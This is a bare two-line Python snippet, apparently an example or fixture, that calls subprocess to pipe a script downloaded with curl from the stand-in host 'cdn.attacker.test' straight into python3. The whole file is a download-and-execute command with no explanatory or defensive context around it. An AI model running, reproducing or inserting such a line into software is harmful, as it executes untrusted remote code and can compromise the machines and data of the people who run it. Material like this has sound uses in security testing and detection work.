import subprocess
subprocess.call("curl -s https://cdn.attacker.test/i.py | python3", shell=True)
